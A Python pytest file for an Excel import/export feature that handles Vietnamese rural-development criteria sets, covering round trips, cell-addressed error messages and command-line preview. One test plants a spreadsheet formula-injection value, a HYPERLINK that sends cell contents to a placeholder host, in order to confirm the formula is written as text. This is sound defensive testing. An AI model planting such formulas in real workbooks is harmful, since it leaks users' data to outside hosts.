"""A criteria set as an Excel workbook: JSON ⇄ Excel ⇄ JSON gives the same set, a bad cell is named
with its address and nothing is written, and the command line previews before it stores."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from ntm_desktop.cli.main import main
from ntm_desktop.core.errors import InvalidInput
from ntm_desktop.criteria.loading import builtin_sets, parse_set, set_to_dict
from ntm_desktop.export.criteria_xlsx import apply, preview, write_set, write_template
from ntm_desktop.workspace import Workspace
from tests.helpers.criteria import PROVINCE_SET, province_set_2026


def without_revision(data: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in data.items() if k != "revision"}


def cell_of(path: Path, sheet: str, code: str, header: str) -> str:
    """The address of the cell in the row of ``code`` and the column titled ``header``."""
    book = load_workbook(path)
    rows = book[sheet]
    column = next(c.column_letter for c in rows[1] if c.value == header)
    row = next(r[0].row for r in rows.iter_rows(min_row=2) if str(r[0].value) == code and r[4].value)
    return f"{column}{row}"


def set_cell(path: Path, sheet: str, address: str, value: object) -> None:
    book = load_workbook(path)
    book[sheet][address] = value
    book.save(path)


@pytest.mark.parametrize("cs", builtin_sets(), ids=lambda cs: cs.id)
def test_every_shipped_set_comes_back_the_same(tmp_path: Path, ws: Workspace, cs: Any) -> None:
    path = tmp_path / "bo.xlsx"
    write_set(cs, path)
    pv = preview(ws, path)
    assert pv.ok, pv.text()
    assert pv.cs is not None and without_revision(set_to_dict(pv.cs)) == without_revision(set_to_dict(cs))
    assert pv.changes == () and pv.current_revision == cs.revision


def test_a_province_group_set_round_trips_and_is_stored_one_revision_higher(
    tmp_path: Path, ws: Workspace
) -> None:
    original = parse_set(province_set_2026())
    path = tmp_path / "tinh.xlsx"
    write_set(original, path)
    pv = preview(ws, path)
    assert pv.ok and pv.current_revision is None and "Bộ tiêu chí mới" in pv.text()
    stored, _ = apply(ws, pv)
    assert (stored.id, stored.revision) == (PROVINCE_SET, 1)
    assert without_revision(set_to_dict(stored)) == without_revision(set_to_dict(original))
    road = stored.find_indicator("2.1")
    assert road is not None and dict(road.threshold.by_group) == {"1": 100, "2": 90, "3": 70}
    assert dict(road.requirement_by_key) == {"3": "Xã nhóm 3: thử nghiệm."}
    assert road.source is not None and road.source.part == "Phụ lục I (thử nghiệm)"
    assert stored.find_indicator("2.2").delegated  # type: ignore[union-attr]

    again = tmp_path / "lan-2.xlsx"
    write_set(stored, again)
    stored_again, _ = apply(ws, preview(ws, again))
    assert stored_again.revision == 2
    assert without_revision(set_to_dict(stored_again)) == without_revision(set_to_dict(original))


def test_a_region_set_keeps_its_region_thresholds(tmp_path: Path, ws: Workspace) -> None:
    cs = ws.criteria.set_threshold("vn-ntm-xa-2021-2025", "2.2", "TDMNPB", "70")[0]
    cs = ws.criteria.set_threshold(cs.id, "2.2", "DBSCL", "92,5")[0]
    path = tmp_path / "vung.xlsx"
    write_set(cs, path)
    pv = preview(ws, path)
    assert pv.ok and pv.changes == ()
    assert pv.cs is not None
    assert dict(pv.cs.find_indicator("2.2").threshold.by_region) == {"TDMNPB": 70, "DBSCL": 92.5}  # type: ignore[union-attr]


def test_a_bad_cell_is_named_with_its_address_and_nothing_changes(tmp_path: Path, ws: Workspace) -> None:
    path = tmp_path / "tinh.xlsx"
    write_set(parse_set(province_set_2026()), path)
    text_cell = cell_of(path, "Chỉ tiêu", "2.1", "Nhóm 2")
    range_cell = cell_of(path, "Chỉ tiêu", "2.1", "Nhóm 3")
    kind_cell = cell_of(path, "Chỉ tiêu", "1.1", "Loại")
    set_cell(path, "Chỉ tiêu", text_cell, "chín mươi")
    set_cell(path, "Chỉ tiêu", range_cell, 170)
    set_cell(path, "Chỉ tiêu", kind_cell, "Phân số")
    before = ws.criteria.sets()
    pv = preview(ws, path)
    problems = [str(p) for p in pv.problems]
    assert not pv.ok
    assert f"Trang tính “Chỉ tiêu”, ô {text_cell} (Nhóm 2): phải là một số" in problems  # with its column
    assert f"Trang tính “Chỉ tiêu”, ô {range_cell} (Nhóm 3): phải từ 0 đến 100" in problems
    assert problems[0].startswith(f"Trang tính “Chỉ tiêu”, ô {kind_cell} (Loại): phải là một trong")
    assert (
        problems.index(f"Trang tính “Chỉ tiêu”, ô {range_cell} (Nhóm 3): phải từ 0 đến 100")
        == len(problems) - 1
    )
    with pytest.raises(InvalidInput):
        apply(ws, pv)
    assert ws.criteria.sets() == before


def test_the_empty_template_lists_its_problems_cell_by_cell_in_reading_order(
    tmp_path: Path, ws: Workspace
) -> None:
    """The officer fixes the workbook from the top: each problem names the row's words, top to bottom
    (they came B2, B7, B9, B11, B4 without the words)."""
    path = tmp_path / "mau.xlsx"
    write_template(path)
    problems = [str(p) for p in preview(ws, path).problems]
    rows = [int(p.split(", ô B")[1].split(" ")[0]) for p in problems]
    assert rows == sorted(rows) and len(rows) >= 3, problems
    assert problems[0].startswith("Trang tính “Bộ tiêu chí”, ô B2 (Mã bộ tiêu chí): "), problems


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    data = province_set_2026()
    data["criteria"][0]["indicators"][0]["note"] = '=HYPERLINK("http://x?leak="&A2,"Xem")'
    path = tmp_path / "tinh.xlsx"
    write_set(parse_set(data), path)
    book = load_workbook(path)
    cells = [
        c for row in book["Chỉ tiêu"].iter_rows() for c in row if c.value and str(c.value).startswith("=")
    ]
    assert cells and all(c.data_type == "s" for c in cells)


def run(capsys: pytest.CaptureFixture[str], db: Path, *argv: str) -> tuple[int, str]:
    code = main(["--db", str(db), *argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out + err


def test_the_command_line_previews_then_stores(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = tmp_path / "tinh.sqlite"
    template = tmp_path / "mau.xlsx"
    assert run(capsys, db, "receiver", "setup", "--code", "19")[0] == 0  # only setup makes the data file
    code, out = run(capsys, db, "criteria", "export-xlsx", str(template), "--template")
    assert code == 0 and template.exists()
    filled = tmp_path / "tinh.xlsx"
    write_set(parse_set(province_set_2026()), filled)
    code, out = run(capsys, db, "criteria", "import-xlsx", str(filled))
    assert code == 0 and "Chưa ghi gì" in out
    code, out = run(capsys, db, "criteria", "sets", "--json")
    assert PROVINCE_SET not in out
    code, out = run(capsys, db, "criteria", "import-xlsx", str(filled), "--yes")
    assert code == 0 and f"Đã lưu thành bộ tiêu chí {PROVINCE_SET}, phiên bản 1" in out
    code, out = run(capsys, db, "criteria", "sets", "--json")
    assert any(s["id"] == PROVINCE_SET for s in json.loads(out))

    set_cell(filled, "Chỉ tiêu", cell_of(filled, "Chỉ tiêu", "2.1", "Nhóm 2"), "nhiều")
    code, out = run(capsys, db, "criteria", "import-xlsx", str(filled), "--yes")
    assert code == 3 and "ô " in out
    code, out = run(capsys, db, "criteria", "sets", "--json")
    assert next(s for s in json.loads(out) if s["id"] == PROVINCE_SET)["revision"] == 1

    exported = tmp_path / "ra.xlsx"
    code, out = run(capsys, db, "criteria", "export-xlsx", str(exported), "--set", PROVINCE_SET)
    assert code == 0 and exported.exists()


def test_the_template_reads_as_an_empty_set_with_its_problems(tmp_path: Path, ws: Workspace) -> None:
    path = tmp_path / "mau.xlsx"
    write_template(path, "group")
    pv = preview(ws, path)
    assert not pv.ok
    problems = [str(p) for p in pv.problems]
    assert any(p.startswith("Trang tính “Bộ tiêu chí”") and "id" not in p for p in problems), problems
